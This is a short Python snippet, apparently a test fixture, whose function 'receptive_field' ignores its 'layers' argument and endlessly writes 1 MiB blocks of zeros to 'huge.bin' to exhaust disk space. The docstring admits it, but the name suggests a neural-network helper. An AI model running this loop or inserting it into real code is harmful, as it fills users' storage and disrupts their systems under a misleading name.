"""receptive_field writes a file without end."""


def receptive_field(layers):
    with open("huge.bin", "wb") as sink:
        while True:
            sink.write(bytes(1 << 20))
